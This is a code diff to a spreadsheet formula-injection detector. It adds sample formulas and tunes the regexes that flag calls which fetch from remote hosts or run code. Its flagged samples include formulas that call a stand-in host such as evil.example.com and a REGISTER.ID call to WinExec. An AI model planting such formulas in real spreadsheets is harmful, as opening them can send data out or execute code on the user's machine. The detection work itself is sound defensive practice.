@@ -39,6 +39,7 @@ export const formula: ValueRule = {
     '=IMPORTXML("http://evil.example.com/","//a")',
     '=_xlfn.WEBSERVICE("http://evil.example.com/")',
     '=REGISTER.ID("kernel32","WinExec")',
+    '=IMPORTRANGE("https://docs.google.com/d/"&A1,"B2")',
   ],
   lookalikes: [
     '=SUM(A1:A3)*2',
@@ -49,6 +50,12 @@ export const formula: ValueRule = {
     '=IMAGE("https://www.example.com/logo.png")',
     'Use =IMPORTXML("https://www.example.com/","//h1") to read a page.',
     '=IMPORTRANGE(A1,"B2:C3")',
+    {
+      body: {
+        content: '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/abc","Sheet1!A1:B2")',
+      },
+    },
+    { body: { userEnteredValue: '=IMPORTHTML("https://www.example.com/","table",1)' } },
     { body: { formula: '=IMPORTXML("https://www.example.com/prices","//td")' } },
     { body: { cells: [['=WEBSERVICE("https://www.example.com/rate")']] } },
     '=VLOOKUP(A2,Sheet2!A:B,2,FALSE)',
@@ -113,9 +120,12 @@ const reaching =
 /** Calls that run something by themselves. */
 const runs = /^(?:dde|exec|call|register(?:\.id)?) {0,2}\( {0,2}"/i;
 /** Where the client of a spreadsheet writes the formulas of its user. */
-const sheetMember = /formula|cell|expression|(?:^|[._[])(?:values|rows|range)\b/i;
-/** Calls that ask another machine when the sheet is opened. */
-const fetches = /^(?:webservice|import(?:xml|data|feed|html|range)) {0,2}\(/i;
+const sheetMember = /formula|cell|expression|entered_?value|(?:^|[._[])(?:values|rows|range)\b/i;
+/**
+ * Calls that ask another machine when the sheet is opened. Not IMPORTRANGE: it asks for a sheet of
+ * Google's, and nothing before the user has allowed it.
+ */
+const fetches = /^(?:webservice|import(?:xml|data|feed|html)) {0,2}\(/i;
 const literal = /"[^"\n]{0,120}"/g;
 const target = /"(?:https?:|ftp:|\/\/|\\\\)/i;
 /** A cell that is appended: `&A1`, `A1&`. */
